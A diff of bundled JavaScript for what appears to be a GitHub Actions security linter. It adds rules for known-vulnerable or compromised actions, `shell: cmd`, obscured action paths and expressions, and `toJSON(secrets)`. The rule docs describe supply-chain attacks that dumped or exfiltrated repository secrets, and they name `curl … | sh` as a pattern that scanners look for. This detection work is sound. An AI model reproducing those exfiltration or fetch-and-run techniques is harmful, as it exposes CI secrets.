+  return refs.tags.filter((tag) => tag.commit === commit).map((tag) => tag.name).sort((a, b) => compareVersionsDesc(parseVersion(a), parseVersion(b)) || (a < b ? -1 : a > b ? 1 : 0));
+}
+function chooseVersionComment(refs, commit, original) {
+  const originalVersion = original ? parseVersion(original) : null;
+  const candidates = tagsAt(refs, commit).map(parseVersion).filter(isFullVersion).filter((version2) => version2.prerelease === null || originalVersion?.prerelease);
+  const sameStyle = candidates.filter(
+    (version2) => !originalVersion || version2.prefix === originalVersion.prefix && version2.parts[0] === originalVersion.parts[0]
+  );
+  if (sameStyle.length > 0) return sameStyle[0].text;
+  if (original) return original;
+  const anyTag = tagsAt(refs, commit);
+  return candidates[0]?.text ?? anyTag[0] ?? null;
+}
+
+// server/src/fixes/pin.ts
+var VERSION_TOKEN_RE = /^(\s*)(pin\s*@|tag=|@)?(v?\d+(?:\.\d+){0,2}(?:-[0-9A-Za-z.-]+)?)(?=$|[\s,;])/;
+function refSpan(site, uses) {
+  if (!site.exact || uses.ref === null) return null;
+  return { start: site.valueStart + uses.refStart, end: site.valueStart + uses.refEnd };
+}
+function trailingComment(file, site, alsoToken = null) {
+  const valueEnd = site.entry.valueSpan.end;
+  const line = file.lines.lineAt(valueEnd);
+  const lineEnd = file.lines.lineContentEnd(line);
+  const rest = file.text.slice(valueEnd, lineEnd);
+  if (/^\s*$/.test(rest)) return null;
+  const match = /^(\s+)#/.exec(rest);
+  if (!match) return "blocked";
+  const hash = valueEnd + match[1].length;
+  const body = file.text.slice(hash + 1, lineEnd);
+  const token = VERSION_TOKEN_RE.exec(body);
+  if (token) {
+    const start = hash + 1 + token[1].length + (token[2]?.length ?? 0);
+    return { hash, end: lineEnd, version: { span: { start, end: start + token[3].length }, text: token[3] } };
+  }
+  if (alsoToken) {
+    const word = /^(\s*)(\S+)(?=\s|$)/.exec(body);
+    if (word && word[2] === alsoToken) {
+      const start = hash + 1 + word[1].length;
+      return { hash, end: lineEnd, version: { span: { start, end: start + word[2].length }, text: word[2] } };
+    }
+  }
+  return { hash, end: lineEnd, version: null };
+}
+function versionComment(file, site) {
+  const comment = trailingComment(file, site);
+  return comment && comment !== "blocked" ? comment.version : null;
+}
+function pinEdits(file, site, uses, commit, comment) {
+  const span = refSpan(site, uses);
+  if (!span) return null;
+  const edits = [];
+  if (file.text.slice(span.start, span.end) !== commit) edits.push({ span, newText: commit });
+  if (comment !== null) {
+    const existing = trailingComment(file, site, uses.ref);
+    if (existing === null) {
+      const at = site.entry.valueSpan.end;
+      edits.push({ span: { start: at, end: at }, newText: ` # ${comment}` });
+    } else if (existing !== "blocked") {
+      if (existing.version) {
+        if (existing.version.text !== comment) edits.push({ span: existing.version.span, newText: comment });
+      } else {
+        const afterHash = file.text.charAt(existing.hash + 1);
+        edits.push({ span: { start: existing.hash + 1, end: existing.hash + 1 }, newText: ` ${comment} #${afterHash === " " ? "" : " "}` });
+      }
+    }
+  }
+  return edits;
+}
+var short = (sha) => sha.slice(0, 12);
+function planPin(file, site, snapshot) {
+  const uses = resolvableRemote(site);
+  if (!uses || uses.refKind === "sha") return { ok: false, reason: "nothing to pin" };
+  if (!snapshot) return { ok: false, reason: "tags are still being resolved" };
+  if (snapshot.offline) return { ok: false, reason: "offline mode is on, so tags are not resolved and no pin can be computed" };
+  const target = usesTarget(uses);
+  if (uses.refKind === "short-sha") {
+    const expanded = snapshot.shortShas.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`);
+    if (!expanded) return { ok: false, reason: "the abbreviated SHA was not resolved" };
+    if (!expanded.ok) return { ok: false, reason: `could not expand \`${uses.ref}\`: ${expanded.error.message}` };
+    const refs2 = refsFor(snapshot, uses);
+    const comment2 = refs2?.ok ? chooseVersionComment(refs2.value, expanded.value, null) : null;
+    const edits2 = pinEdits(file, site, uses, expanded.value, comment2 && parseVersion(comment2) ? comment2 : null);
+    if (!edits2) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
+    return { ok: true, commit: expanded.value, comment: comment2, via: "sha", fix: { title: `Expand to the full commit SHA ${short(expanded.value)}…`, isPreferred: true, safety: "safe", edits: edits2 } };
+  }
+  const refs = refsFor(snapshot, uses);
+  if (!refs) return { ok: false, reason: `${uses.repository} was not resolved` };
+  if (!refs.ok) return { ok: false, reason: `could not resolve ${uses.repository}: ${refs.error.message}` };
+  const found = findRef(refs.value, uses.ref);
+  if (found.tag && found.branch && found.tag.commit !== found.branch.commit) {
+    return { ok: false, reason: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository} on different commits; pin by hand after choosing` };
+  }
+  const ref2 = found.branch ?? found.tag;
+  if (!ref2) return { ok: false, reason: `${uses.repository} has no tag or branch named \`${uses.ref}\`` };
+  const isBranch = !found.tag;
+  const comment = isBranch ? uses.ref : chooseVersionComment(refs.value, ref2.commit, uses.ref);
+  const edits = pinEdits(file, site, uses, ref2.commit, comment);
+  if (!edits) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
+  const fix = isBranch ? { title: `Pin ${target} to the current commit of ${uses.ref} (${short(ref2.commit)}…)`, isPreferred: false, safety: "safe", edits } : { title: `Pin ${target} to ${short(ref2.commit)}… # ${comment}`, isPreferred: true, safety: "safe", edits };
+  return { ok: true, commit: ref2.commit, comment, via: isBranch ? "branch" : "tag", fix };
+}
+
+// server/src/rules/support/version-comments.ts
+function trailingComment2(file, end) {
+  const line = file.lines.lineAt(end);
+  const lineEnd = file.lines.lineContentEnd(line);
+  const rest = file.text.slice(end, lineEnd);
+  const match = /(^|\s)#/.exec(rest);
+  if (!match) return null;
+  const hash = end + match.index + match[1].length;
+  return { text: file.text.slice(hash + 1, lineEnd).trim(), span: { start: hash, end: lineEnd } };
+}
+function commentVersion(comment) {
+  const match = /(?:^|[\s@=:])(v?\d+(?:\.\d+){0,3}(?:-[0-9A-Za-z.]+)?)(?=$|[\s,;)])/.exec(comment);
+  return match ? match[1] : null;
+}
+function usesCommentVersion(file, site) {
+  const comment = trailingComment2(file, site.entry.valueSpan.end);
+  return comment ? commentVersion(comment.text) : null;
+}
+function parseVersion2(text) {
+  const match = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:\.(\d+))?(-[0-9A-Za-z.]+)?(\+[0-9A-Za-z.]+)?$/.exec(text.trim());
+  if (!match) return null;
+  const parts = [match[1], match[2], match[3], match[4]].filter((p) => p !== void 0).map(Number);
+  return { parts, written: parts.length, prerelease: match[5] !== void 0 };
+}
+
+// server/src/views.ts
+function available(value) {
+  return { available: true, value };
+}
+function unavailable(reason, detail) {
+  return detail === void 0 ? { available: false, reason } : { available: false, reason, detail };
+}
+function valueOf(view) {
+  return view.available ? view.value : void 0;
+}
+function onlineView(snapshot) {
+  if (!snapshot) return unavailable("not-fetched");
+  return snapshot.offline ? unavailable("offline") : available(snapshot);
+}
+var NO_VIEWS = Object.freeze({
+  online: unavailable("not-fetched"),
+  workspace: unavailable("not-indexed"),
+  dependencies: unavailable("not-fetched")
+});
+
+// server/src/rules/known-vulnerable-actions.ts
+var WIDTH = 4;
+function tuple(version2) {
+  return Array.from({ length: WIDTH }, (_, i) => version2.parts[i] ?? 0);
+}
+function compare(a, b) {
+  for (let i = 0; i < WIDTH; i++) if (a[i] !== b[i]) return a[i] < b[i] ? -1 : 1;
+  return 0;
+}
+function bound(text) {
+  if (!text) return null;
+  const parsed = parseVersion2(text);
+  return parsed ? tuple(parsed) : null;
+}
+function exactIn(version2, range) {
+  const v2 = tuple(version2);
+  const introduced = bound(range.introduced);
+  if (introduced && (compare(v2, introduced) < 0 || range.introducedExclusive && compare(v2, introduced) === 0)) return false;
+  const fixed = bound(range.fixed);
+  if (fixed && (compare(v2, fixed) > 0 || compare(v2, fixed) === 0 && !version2.prerelease)) return false;
+  const last = bound(range.lastAffected);
+  if (last && compare(v2, last) > 0) return false;
+  return true;
+}
+function seriesVerdict(version2, range) {
+  const start = tuple(version2);
+  const end = start.slice();
+  end[version2.written - 1] += 1;
+  const introduced = bound(range.introduced) ?? [0, 0, 0, 0];
+  if (compare(introduced, end) >= 0) return "clear";
+  const fixed = bound(range.fixed);
+  const last = bound(range.lastAffected);
+  if (!fixed && !last) return "affected";
+  if (fixed && compare(fixed, end) >= 0) return "affected";
+  if (last && compare(last, end) >= 0) return "affected";
+  const overlaps = fixed !== null && compare(fixed, start) > 0 || last !== null && compare(last, start) >= 0;
+  return overlaps ? "maybe" : "clear";
+}
+function verdict(text, advisory) {
+  const version2 = parseVersion2(text);
+  if (!version2) return "clear";
+  let result = "clear";
+  for (const range of advisory.ranges) {
+    const one = version2.written >= 3 ? exactIn(version2, range) ? "affected" : "clear" : seriesVerdict(version2, range);
+    if (one === "affected") return "affected";
+    if (one === "maybe") result = "maybe";
+  }
+  return result;
+}
+function ids(advisory) {
+  return advisory.cve ? `${advisory.ghsa} / ${advisory.cve}` : advisory.ghsa;
+}
+function upgrade(advisory) {
+  if (advisory.patchedTag) return `; upgrade to ${advisory.patchedTag} or later`;
+  return advisory.firstPatched ? `; the first patched version is ${advisory.firstPatched}` : "";
+}
+function tagFor(refs, version2) {
+  if (!refs || !version2) return void 0;
+  const bare = version2.replace(/^v/, "");
+  return (refs.tags.find((tag) => tag.name === version2) ?? refs.tags.find((tag) => tag.name.replace(/^v/, "") === bare))?.name;
+}
+function concerns(advisory, uses) {
+  const repository = uses.repository.toLowerCase();
+  if (advisory.packageName === repository) return true;
+  return uses.subpath !== null && advisory.packageName === `${repository}/${trimEndOf(uses.subpath, "/")}`.toLowerCase();
+}
+function knownFor(uses, snapshot, refs) {
+  const bundled = [...advisoriesFor2(uses.repository)];
+  const online = snapshot ? advisoriesFor(snapshot, uses) : void 0;
+  if (!online) return bundled;
+  const seen = new Set(bundled.map((advisory) => advisory.ghsa));
+  const merged = /* @__PURE__ */ new Map();
+  for (const advisory of online) {
+    if (seen.has(advisory.ghsa) || !concerns(advisory, uses)) continue;
+    const existing = merged.get(advisory.ghsa);
+    if (existing) {
+      existing.ranges = [...existing.ranges, ...advisory.ranges];
+      continue;
+    }
+    const entry = {
+      repository: uses.repository.toLowerCase(),
+      ghsa: advisory.ghsa,
+      severity: advisory.severity,
+      kind: "vulnerability",
+      summary: `${trimEndOfSpaceAnd(advisory.summary, ".")} (GitHub advisory database, affected ${advisory.rangeText})`,
+      ranges: advisory.ranges,
+      source: advisory.url ?? `${snapshot.serverUrl}/advisories/${advisory.ghsa}`,
+      online: true
+    };
+    if (advisory.cve) entry.cve = advisory.cve;
+    if (advisory.firstPatched) entry.firstPatched = advisory.firstPatched;
+    const patchedTag = tagFor(refs, advisory.firstPatched);
+    if (patchedTag) entry.patchedTag = patchedTag;
+    merged.set(advisory.ghsa, entry);
+  }
+  return [...bundled, ...merged.values()];
+}
+function taggedVersion(refs, sha) {
+  if (!refs) return null;
+  for (const name of tagsAt(refs, sha)) if (isFullVersion(parseVersion(name))) return name;
+  return null;
+}
+function bumpFix(file, site, uses, refs, advisory) {
+  if (!refs || !advisory.patchedTag) return null;
+  const tag = refs.tags.find((candidate) => candidate.name === advisory.patchedTag);
+  if (!tag || tag.commit === uses.ref) return null;
+  const edits = pinEdits(file, site, uses, tag.commit, tag.name);
+  if (!edits || edits.length === 0) return null;
+  return {
+    title: `Upgrade ${usesTarget(uses)} to ${tag.name} (${tag.commit.slice(0, 12)}…), the first patched release`,
+    isPreferred: false,
+    safety: "unsafe",
+    edits
+  };
+}
+var knownVulnerableActions = {
+  id: "known-vulnerable-actions",
+  title: "Action version with a published advisory",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  reads: ["online"],
+  docs: {
+    summary: "A `uses:` names an action version (by tag, by the version comment of a SHA pin, or by a known-malicious commit) that a public GitHub advisory lists as compromised or vulnerable.",
+    why: "In March 2025 the tags of `tj-actions/changed-files` (CVE-2025-30066) were moved to a commit that printed the runner's secrets into public logs, after a similar compromise of `reviewdog/action-setup@v1` (CVE-2025-30154). In March 2026 the tags of `aquasecurity/trivy-action` and `aquasecurity/setup-trivy` were force-pushed to a credential stealer (CVE-2026-33634). Other actions shipped injection bugs fixed in a later release. Workflows still naming those versions or commits remain exposed, or were exposed while the bad code was live.",
+    fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran.",
+    onlineLookup: "the advisory database lookup"
+  },
+  check({ file, online, report }) {
+    const snapshot = valueOf(online);
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote" || !reference.ref) continue;
+      const resolved = snapshot ? refsFor(snapshot, reference) : void 0;
+      const refs = resolved?.ok ? resolved.value : void 0;
+      const advisories = knownFor(reference, snapshot, refs);
+      if (advisories.length === 0) continue;
+      const target = usesTarget(reference);
+      const refSpan2 = refOrValueSpan(site, reference);
+      for (const advisory of advisories) {
+        const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
+        if (sha) {
+          if (advisory.badCommits?.includes(sha)) {
+            report({
+              span: refSpan2,
+              message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
+              severity: advisory.severity,
+              confidence: "high"
+            });
+            continue;
+          }
+          if (advisory.kind === "compromise") continue;
+          const tagged = taggedVersion(refs, sha);
+          const version2 = tagged ?? usesCommentVersion(file, site);
+          if (version2 && verdict(version2, advisory) === "affected") {
+            const fix = bumpFix(file, site, reference, refs, advisory);
+            report({
+              span: refSpan2,
+              message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
+              severity: advisory.severity,
+              confidence: tagged ? "high" : "medium",
+              fixes: fix ? [fix] : []
+            });
+          }
+          continue;
+        }
+        if (reference.refKind !== "version") continue;
+        const moving = (parseVersion2(reference.ref)?.written ?? 3) < 3;
+        const movingTag = moving && refs ? refs.tags.find((tag) => tag.name === reference.ref) : void 0;
+        const now = movingTag && !refs.branches.some((branch) => branch.name === reference.ref) ? taggedVersion(refs, movingTag.commit) : null;
+        if (now && verdict(now, advisory) !== "affected") continue;
+        const result = now ? "affected" : verdict(reference.ref, advisory);
+        if (result === "clear") continue;
+        const confidence = result === "affected" ? "high" : "medium";
+        const fixes = [];
+        const bump = bumpFix(file, site, reference, refs, advisory);
+        if (bump) fixes.push(bump);
+        else if (advisory.patchedTag && site.exact) {
+          fixes.push({
+            title: `Upgrade ${target} to ${advisory.patchedTag} (then pin it by SHA)`,
+            isPreferred: false,
+            safety: "unsafe",
+            edits: [{ span: refSpan2, newText: advisory.patchedTag }]
+          });
+        }
+        const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
+        report({
+          span: refSpan2,
+          message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
+          severity: advisory.severity,
+          confidence,
+          ...result === "maybe" ? { persona: "pedantic" } : {},
+          fixes
+        });
+      }
+    }
+  }
+};
+
+// server/src/rules/misfeature.ts
+function checkShell(ctx, where, shell) {
+  if (!shell || shell.value.trim().toLowerCase() !== "cmd") return;
+  ctx.report({
+    span: shell.span,
+    message: `${where()} uses \`shell: cmd\`, whose quoting rules make any interpolated value hard to contain and whose errors do not stop the script: use \`pwsh\` or \`bash\``
+  });
+}
+function checkSteps(ctx, steps) {
+  for (const step of steps) checkShell(ctx, () => `Step \`${step.label}\``, step.shell);
+}
+var misfeature = {
+  id: "misfeature",
+  title: "Feature that is hard to use safely",
+  kinds: ["workflow", "action"],
+  severity: "low",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`shell: cmd` and actions/setup-python's `pip-install` work, but make injection or unpinned installs the easy path.",
+    why: "`cmd.exe` expands `%VAR%` and metacharacters in ways no quoting fully contains and carries on after a failing command; `pip-install` installs whatever the index serves today, without hashes, in the same step that sets up the interpreter — the unpinned-install pattern behind the 2026 LiteLLM compromise.",
+    fix: "Use `shell: pwsh` or `bash` on Windows; install Python packages in a `run:` step from a lockfile with hashes."
+  },
+  check(ctx) {
+    const { workflow, action } = ctx.file;
+    if (workflow) {
+      const defaults = (view) => view.child("defaults").child("run").string("shell");
+      checkShell(ctx, () => "The workflow default", defaults(workflow));
+      for (const job of workflow.jobs) {
+        checkShell(ctx, () => `The default of job \`${job.id}\``, defaults(job));
+        checkSteps(ctx, job.steps);
+      }
+    }
+    if (action) checkSteps(ctx, action.steps);
+    for (const site of ctx.file.uses) {
+      const reference = site.reference;
+      if (!site.step || reference.kind !== "remote" || reference.repository.toLowerCase() !== "actions/setup-python") continue;
+      const pip = site.step.with.get("pip-install");
+      if (!pip) continue;
+      ctx.report({
+        span: pip.keySpan,
+        message: "`pip-install` of actions/setup-python installs packages into the interpreter without a lockfile or hashes: install them in a `run:` step from a locked requirements file (`pip install --require-hashes -r …`, `uv sync --locked`)"
+      });
+    }
+  }
+};
+
+// server/src/rules/obfuscation.ts
+function normalizeUsesPath(segments) {
+  const out = [];
+  for (const segment of segments) {
+    if (segment === "" || segment === ".") continue;
+    if (segment === ".." && out.length > 0 && out[out.length - 1] !== "..") out.pop();
+    else out.push(segment);
+  }
+  return out;
+}
+function constantString(node) {
+  let constant = true;
+  walkExpression(node, (n) => {
+    if (n.type === "context" || n.type === "property" || n.type === "index" || n.type === "wildcard") constant = false;
+    if (n.type === "call" && !["format", "join", "tojson"].includes(n.name.toLowerCase())) constant = false;
+  });
+  if (!constant) return void 0;
+  const inner = node.type === "group" ? node.expr : node;
+  if (inner.type === "literal" && inner.kind === "string") return String(inner.value);
+  if (inner.type === "call" && inner.name.toLowerCase() === "format" && inner.args.every((a) => a.type === "literal")) {
+    const [template, ...args2] = inner.args.map((a) => a.type === "literal" ? a.value === null ? "" : String(a.value) : "");
+    let broken = false;
+    const result = template.replace(/\{\{|\}\}|\{(\d+)\}/g, (match, index) => {
+      if (match === "{{") return "{";
+      if (match === "}}") return "}";
+      const i = Number(index);
+      if (i >= args2.length) broken = true;
+      return args2[i] ?? "";
+    });
+    return broken ? void 0 : result;
+  }
+  if (inner.type === "call") return "";
+  return void 0;
+}
+var SAFE_TEXT = /^[A-Za-z0-9_./@+=-]+$/;
+function checkUsesPaths(ctx) {
+  for (const site of ctx.file.uses) {
+    const reference = site.reference;
+    const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
+    let normalized = null;
+    if (reference.kind === "remote" && reference.subpath !== null) {
+      const raw = reference.subpath.split("/");
+      const clean = normalizeUsesPath(raw);
+      if (clean.join("/") !== raw.join("/") && !clean.includes("..")) {
+        const path = [reference.owner, reference.repo, ...clean].join("/");
+        normalized = reference.ref === null ? path : `${path}@${reference.ref}`;
+      }
+    } else if (reference.kind === "local" || reference.kind === "self") {
+      const prefix = reference.kind === "local" ? "./" : "$/";
+      const rest = reference.kind === "local" ? reference.path.replace(/^\.\/?/, "") : reference.path;
+      const raw = rest.split("/");
+      const clean = normalizeUsesPath(raw);
+      if (clean.join("/") !== raw.join("/") && !(raw.length > 0 && raw[raw.length - 1] === "" && clean.join("/") === raw.slice(0, -1).join("/"))) {
+        normalized = prefix + clean.join("/");
+      }
+    } else if (reference.kind === "invalid") {
+      const text = site.value.trim();
+      const at = text.lastIndexOf("@");
+      const target = at === -1 ? text : text.slice(0, at);
+      const clean = normalizeUsesPath(target.split("/"));
+      if (clean.length >= 2 && !clean.includes("..") && !text.startsWith("docker://") && !text.startsWith(".") && !text.startsWith("$")) {
+        normalized = clean.join("/") + (at === -1 ? "" : text.slice(at));
+      }
+    }
+    if (normalized === null) continue;
+    const fixes = site.exact ? [{ title: `Write it as \`${normalized}\``, isPreferred: true, safety: "safe", edits: [{ span, newText: normalized }] }] : [];
+    ctx.report({ span, message: `\`${site.value.trim()}\` hides its target behind \`.\`, \`..\` or empty path segments; it is \`${normalized}\``, fixes });
+  }
+}
+var obfuscation = {
+  id: "obfuscation",
+  title: "Needlessly obscured action path or expression",
+  kinds: ["workflow", "action"],
+  severity: "low",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `uses:` path with `.`, `..` or empty segments, or a `${{ }}` that only computes a constant (`${{ 'curl' }}`, `${{ format('{0}', 'x') }}`), hides what the workflow does from reviewers and scanners.",
+    why: "Reviewers and pattern-based scanners look for `actions/checkout`, `curl … | sh` or `pull_request_target` as written; attackers who plant or propose workflow changes (GhostAction 2025, Shai-Hulud 2025 planted exfiltration workflows in thousands of repositories) benefit from spellings that do not match. Legitimate workflows never need them.",
+    fix: "Write the plain form; the quick fix replaces the path with its normalised form, and a constant expression with its value when that value is plain text."
+  },
+  check(ctx) {
+    checkUsesPaths(ctx);
+    for (const expression of evaluatedExpressions(ctx.file)) {
+      if (!expression.fence || expression.isCondition || !expression.exact || !expression.tree) continue;
+      const value = constantString(expression.tree);
+      if (value === void 0 || value.includes("${{") || value.includes("}}")) continue;
+      const fence = expression.fence;
+      const fixes = SAFE_TEXT.test(value) ? [{ title: `Replace with \`${value}\``, isPreferred: true, safety: "safe", edits: [{ span: fence, newText: value }] }] : [];
+      ctx.report({
+        span: fence,
+        message: `\`${ctx.file.text.slice(fence.start, fence.end)}\` always evaluates to \`${value}\`: write the text itself`,
+        fixes
+      });
+    }
+  }
+};
+
+// server/src/rules/overprovisioned-secrets.ts
+var overprovisionedSecrets = {
+  id: "overprovisioned-secrets",
+  title: "Every secret of the repository handed to one place",
+  kinds: ["workflow", "action"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`toJSON(secrets)` or `secrets[<computed>]` makes the runner load every secret of the repository into the job, not only the ones it names.",
+    why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
+    fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
+  },
+  check({ file, report }) {
+    walkFencedExpressions(file, (node, span) => {
+      if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
+        report({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
+        return false;
+      }
+      if (node.type === "index" && contextPath(node.object) === "secrets") {
+        const index = node.index;
+        if (!(index.type === "literal" && index.kind === "string")) {
+          report({ span, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
+        }
+      }
+      return true;
+    });
   }
 };
 
 // server/src/rules/ref-confusion.ts
-function checkRefConfusion({ file, report }, snapshot) {
-  if (!snapshot || snapshot.offline) return;
-  for (const site of file.uses) {
-    const uses = resolvableRemote(site);
-    if (!uses || uses.refKind === "sha" || uses.refKind === "short-sha") continue;
-    const refs = refsFor(snapshot, uses);
-    if (!refs?.ok) continue;
-    const found = findRef(refs.value, uses.ref);
+function checkRefConfusion({ file, online, report }) {
+  if (!online.available) return;
+  const snapshot = online.value;
+  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "named-refs")) {
+    const found = findRef(refs, uses.ref);
     if (!found.tag || !found.branch) continue;
     const same = found.tag.commit === found.branch.commit;
-    const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
-    const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
     report({
-      span: { start, end },
+      span: refOrValueSpan(site, uses),
       message: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository}${same ? " (today on the same commit)" : ` (tag ${found.tag.commit.slice(0, 12)}…, branch ${found.branch.commit.slice(0, 12)}…)`}: \`${usesTarget(uses)}@${uses.ref}\` runs the branch, whatever the tag says`,
       confidence: same ? "medium" : "high"
     });
@@ -14908,33 +15039,29 @@ var refConfusion = {
   severity: "medium",
   confidence: "high",
   persona: "regular",
+  online: true,
   docs: {
     summary: "A `uses:` ref names both a tag and a branch of the action's repository (online check).",
     why: "When a name is both, GitHub runs the branch. Anyone with push access can create a branch named like a release tag (`v1`) and silently take over every workflow that trusts the tag: the tag still looks right in the release list.",
     fix: "Pin to a full commit SHA (with a `# vX.Y.Z` comment); ask the maintainers to delete the confusing branch."
   },
-  check(context) {
-    checkRefConfusion(context, snapshotOf(context.file));
-  }
+  check: checkRefConfusion
 };
 
 // server/src/rules/ref-version-mismatch.ts
-function checkRefVersionMismatch({ file, report }, snapshot) {
-  if (!snapshot || snapshot.offline) return;
-  for (const site of file.uses) {
-    const uses = resolvableRemote(site);
-    if (!uses || uses.refKind !== "sha") continue;
-    const refs = refsFor(snapshot, uses);
-    if (!refs?.ok) continue;
+function checkRefVersionMismatch({ file, online, report }) {
+  if (!online.available) return;
+  const snapshot = online.value;
+  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
     const sha = uses.ref;
     const target = usesTarget(uses);
     const claimed = versionComment(file, site);
-    const truthful = chooseVersionComment(refs.value, sha, claimed?.text ?? null);
-    const atSha = tagsAt(refs.value, sha);
+    const truthful = chooseVersionComment(refs, sha, claimed?.text ?? null);
+    const atSha = tagsAt(refs, sha);
     const bestTag = atSha.length > 0 ? truthful && atSha.includes(truthful) ? truthful : atSha[0] : null;
     if (!claimed) {
       if (!bestTag) continue;
-      if (commentNamesRef(file, site, refs.value, sha)) continue;
+      if (commentNamesRef(file, site, refs, sha)) continue;
       const edits = pinEdits(file, site, uses, sha, bestTag);
       report({
         span: site.entry.valueSpan,
@@ -14947,7 +15074,7 @@ function checkRefVersionMismatch({ file, report }, snapshot) {
       continue;
     }
     if (!parseVersion(claimed.text)) continue;
-    const tag = findRef(refs.value, claimed.text).tag;
+    const tag = findRef(refs, claimed.text).tag;
     if (tag && tag.commit === sha) continue;
     const where = tag ? `points at ${tag.commit.slice(0, 12)}…, not at the pinned commit` : `is not a tag of ${uses.repository}`;
     const fixes = [];
@@ -14974,14 +15101,13 @@ var refVersionMismatch = {
   severity: "medium",
   confidence: "high",
   persona: "regular",
+  online: true,
   docs: {
     summary: "A SHA-pinned `uses:` carries a `# vX.Y.Z` comment naming a tag that points at a different commit (online check).",
     why: "Reviewers and updaters such as Dependabot trust the version comment, not the 40 hex digits. A comment that lies hides which code really runs: a downgrade to a vulnerable release, or a commit slipped in during a compromise, looks like the version everyone expects. Dependabot leaves wrong comments wrong (dependabot-core#7912).",
     fix: "Correct the comment to the tag that points at the pinned commit, or re-pin to the commit of the tag the comment names."
   },
-  check(context) {
-    checkRefVersionMismatch(context, snapshotOf(context.file));
-  }
+  check: checkRefVersionMismatch
 };
 function commentNamesRef(file, site, refs, sha) {
   const comment = trailingComment(file, site);
@@ -14992,1011 +15118,6 @@ function commentNamesRef(file, site, refs, sha) {
   return branch !== void 0 || tag?.commit === sha;
 }
 
-// server/src/rules/stale-action-refs.ts
-function checkStaleActionRefs({ file, report }, snapshot) {
-  if (!snapshot || snapshot.offline) return;
-  for (const site of file.uses) {
-    const uses = resolvableRemote(site);
-    if (!uses || uses.refKind !== "sha") continue;
-    const refs = refsFor(snapshot, uses);
-    if (!refs?.ok || refs.value.tags.length === 0) continue;
-    if (tagsAt(refs.value, uses.ref).length > 0) continue;
-    const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
-    const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
-    report({
-      span: { start, end },
-      message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
-    });
-  }
-}
-var staleActionRefs = {
-  id: "stale-action-refs",
-  title: "Pinned commit is not a release",
-  kinds: ["workflow", "action"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "A `uses:` pinned to a commit that no tag points at (online check).",
-    why: "Commits between releases have not been through the maintainers' release process, and tools that keep pins fresh (Dependabot, Renovate) cannot tell which version they are. Unreleased commits are also how impostor and compromised commits usually look.",
-    fix: "Pin to the commit of a release tag with its `# vX.Y.Z` comment."
-  },
-  check(context) {
-    checkStaleActionRefs(context, snapshotOf(context.file));
-  }
-};
-
-// server/src/knowledge/job-facts.ts
-function stepAction(file, step) {
-  let index = stepActionIndex.get(file);
-  if (!index) {
-    index = /* @__PURE__ */ new Map();
-    for (const site of file.uses) {
-      if (!site.step || index.has(site.step) || site.reference.kind !== "remote") continue;
-      const reference = site.reference;
-      const name = (reference.subpath ? `${reference.repository}/${reference.subpath}` : reference.repository).toLowerCase();
-      index.set(site.step, { name, ref: reference.ref, site, reference });
-    }
-    stepActionIndex.set(file, index);
-  }
-  return index.get(step) ?? null;
-}
-var stepActionIndex = new AttachedCache("step-actions", attachmentsOf);
-function stepUses(file, step, ...names) {
-  const action = stepAction(file, step);
-  return action && names.includes(action.name) ? action : null;
-}
-function localActionPath(file, step) {
-  for (const site of file.uses) {
-    if (site.step !== step) continue;
-    if (site.reference.kind === "local" || site.reference.kind === "self") return site.reference.path;
-  }
-  return null;
-}
-function secretReferences(file, span, includeToken = false) {
-  if (!span) return [];
-  const found = [];
-  for (const reference of allSecretReferences(file)) {
